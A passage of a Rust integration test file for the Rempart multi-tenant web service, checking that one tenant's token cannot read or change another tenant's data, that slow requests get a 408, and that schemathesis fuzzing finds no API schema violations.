        &f.url("/api/v1/tenants/acme/secrets/s3-secret"),
        Some(&f.msp),
        Some(b"acme-only-value"),
    );
    assert_eq!(s, 200);
    let routes = rempart_web::routes();
    for wanted in [
        "/metrics",
        "/ping/{token}",
        "/ack/{tenant}/{alert}/{to}/{until}/{signature}",
    ] {
        assert!(
            routes.iter().any(|(_, p)| p == wanted),
            "{wanted} is not in the router's table"
        );
    }
    let mut checked = 0;
    for (method, path) in &routes {
        if method == "HEAD" {
            continue;
        }
        let url = f.url(&concrete(path, "acme"));
        let body: &[u8] = if method == "PUT" && path.ends_with("/plan") {
            f.plan.as_bytes()
        } else if path.ends_with("/roots") {
            br#"{"roots":["/"]}"#
        } else if path.ends_with("/maintenance") {
            br#"{"start":"2026-01-01T00:00:00Z","end":"2099-01-01T00:00:00Z","reason":"x"}"#
        } else if path.starts_with("/api/v1/tenants") && method == "POST" && !path.contains('{') {
            br#"{"id":"acme","name":"Taken over"}"#
        } else {
            b"{}"
        };
        let (s, answer) = call(method, &url, Some(&f.beta), Some(body));
        let text = answer.to_string();
        // The portal's stylesheet and script are files built into the
        // binary, the same for everyone (their words are class names).
        let markers: &[&str] = if path.starts_with("/assets/") {
            &[]
        } else {
            &ACME_MARKERS
        };
        for marker in markers {
            assert!(
                !text.contains(marker),
                "{method} {path} as beta showed acme's \"{marker}\": {text}"
            );
        }
        let portal = ![
            "/api/", "/ping/", "/ack/", "/crisis/", "/metrics", "/healthz",
        ]
        .iter()
        .any(|p| path.starts_with(p));
        if portal && (path == "/" || path.starts_with("/assets/")) {
            // The portal's login page and its stylesheet: public, and nothing more.
            assert_eq!(s, 200, "{method} {path}: {text}");
        } else if path == "/status/{tenant}" {
            // A status page: acme's has none (nor would a token open a
            // private one).
            assert_eq!(s, 404, "{method} {path}: {text}");
        } else if portal {
            // The portal's other pages: an API token is no login (sent
            // to the login page, or a refused form).
            let to_login = s == 200 && text.contains("Log in to Rempart");
            assert!(
                to_login || [303, 403, 415].contains(&s),
                "{method} {path} with an API token: {s} {text}"
            );
        } else if path.contains("{tenant}") && !path.starts_with("/ack/") {
            assert_eq!(s, 404, "{method} {path} as beta: {text}");
        } else if path.starts_with("/ack/") || path.starts_with("/ping/") {
            assert_eq!(s, 404, "{method} {path}: {text}");
        } else if path == "/metrics" || (method == "POST" && path == "/api/v1/tenants") {
            assert_eq!(s, 403, "{method} {path} as beta: {text}");
        } else {
            assert!(s < 300, "{method} {path}: {s} {text}");
        }
        checked += 1;
    }
    assert!(checked >= 20, "only {checked} routes");
    // Nothing of acme changed.
    let (_, tenant) = call("GET", &f.url("/api/v1/tenants/acme"), Some(&f.msp), None);
    assert_eq!(tenant["name"], "Test SARL");
    let (_, roots) = call(
        "GET",
        &f.url("/api/v1/tenants/acme/roots"),
        Some(&f.msp),
        None,
    );
    assert_eq!(roots["roots"].as_array().map(Vec::len), Some(0));
    let (_, windows) = call(
        "GET",
        &f.url("/api/v1/tenants/acme/maintenance"),
        Some(&f.msp),
        None,
    );
    assert_eq!(windows.as_array().map(Vec::len), Some(0));
    let (_, secrets) = call(
        "GET",
        &f.url("/api/v1/tenants/acme/secrets"),
        Some(&f.msp),
        None,
    );
    assert_eq!(secrets.as_array().map(Vec::len), Some(1));
    // The tenant-scoped routes do answer acme's own client: the 404s above
    // came from the boundary, not from the route.
    for (method, path) in &routes {
        if method == "GET"
            && path.starts_with("/api/v1/tenants/{tenant}")
            && path.matches('{').count() == 1
        {
            let (s, body) = call("GET", &f.url(&concrete(path, "acme")), Some(&f.acme), None);
            assert!(
                s == 200
                    || (s == 404
                        && body["error"] == "not-found"
                        && !body["message"]
                            .as_str()
                            .unwrap_or("")
                            .contains("for this token")),
                "GET {path} as acme: {s} {body}"
            );
        }
    }
}

#[test]
fn a_request_that_takes_too_long_is_answered_408() {
    let dir = Scratch::new("api-timeout");
    let plans = dir.join("plans");
    std::fs::create_dir_all(&plans).unwrap();
    std::fs::write(plans.join("acme.toml"), base_plan()).unwrap();
    let data = dir.join("data").display().to_string();
    let server = Server::start(
        &[
            "--plans",
            plans.to_str().unwrap(),
            "--data-dir",
            &data,
            "--request-timeout",
            "1s",
        ],
        &dir.join("serve.log"),
    );
    let msp = token(&data, &["--name", "msp"]);
    // Another process holds the store's write lock: a write through the
    // API waits for it (up to SQLite's busy timeout of 30 s)...
    let db = format!("sqlite://{data}/rempart.db");
    let (held_tx, held_rx) = std::sync::mpsc::channel();
    let (release_tx, release_rx) = std::sync::mpsc::channel::<()>();
    let holder = std::thread::spawn(move || {
        tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap()
            .block_on(async {
                sqlx::any::install_default_drivers();
                let pool = sqlx::AnyPool::connect(&db).await.unwrap();
                let mut conn = pool.acquire().await.unwrap();
                sqlx::Executor::execute(&mut *conn, "BEGIN IMMEDIATE")
                    .await
                    .unwrap();
                held_tx.send(()).unwrap();
                let _ = release_rx.recv();
                sqlx::Executor::execute(&mut *conn, "ROLLBACK")
                    .await
                    .unwrap();
            });
    });
    held_rx.recv().unwrap();
    // ... and is answered 408 after the server's limit, not held for ever.
    let started = std::time::Instant::now();
    let (s, _) = call(
        "POST",
        &server.url("/api/v1/tenants/acme/maintenance"),
        Some(&msp),
        Some(br#"{"start":"2026-01-01T00:00:00Z","end":"2099-01-01T00:00:00Z","reason":"x"}"#),
    );
    let took = started.elapsed();
    release_tx.send(()).unwrap();
    holder.join().unwrap();
    assert_eq!(s, 408);
    assert!(
        took >= Duration::from_millis(900) && took < Duration::from_secs(10),
        "{took:?}"
    );
    // The store free again, the same request goes through.
    let (s, _) = call(
        "POST",
        &server.url("/api/v1/tenants/acme/maintenance"),
        Some(&msp),
        Some(br#"{"start":"2026-01-01T00:00:00Z","end":"2099-01-01T00:00:00Z","reason":"x"}"#),
    );
    assert_eq!(s, 201);
}

/// schemathesis (PyPI) generates requests from the OpenAPI document,
/// valid and invalid, and holds every answer to it: no server error, no
/// status, header or body the document does not declare, nothing it
/// forbids accepted, nothing it allows refused.
#[test]
fn schemathesis_finds_nothing_the_document_does_not_say() {
    let f = Fixture::start("api-schemathesis");
    let out = std::process::Command::new("schemathesis")
        .args(["--config-file"])
        .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("../../scripts/schemathesis.toml"))
        .args(["run", &f.url("/api/v1/openapi.json")])
        .args(["--header", &format!("Authorization: Bearer {}", f.msp)])
        .args(["--max-examples", "50"])
        .args(["--workers", "2"])
        // Reproducible in CI; another seed explores further:
        // REMPART_SCHEMATHESIS_SEED=7 cargo test --test api schemathesis
        .args([
            "--seed",
            &std::env::var("REMPART_SCHEMATHESIS_SEED").unwrap_or_else(|_| "1".into()),
        ])
        .args(["--no-color"])
        .current_dir(&f.dir.0)
        .output()
        .expect("schemathesis is installed (scripts/services)");
    assert!(
        out.status.success(),
        "schemathesis:\n{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}
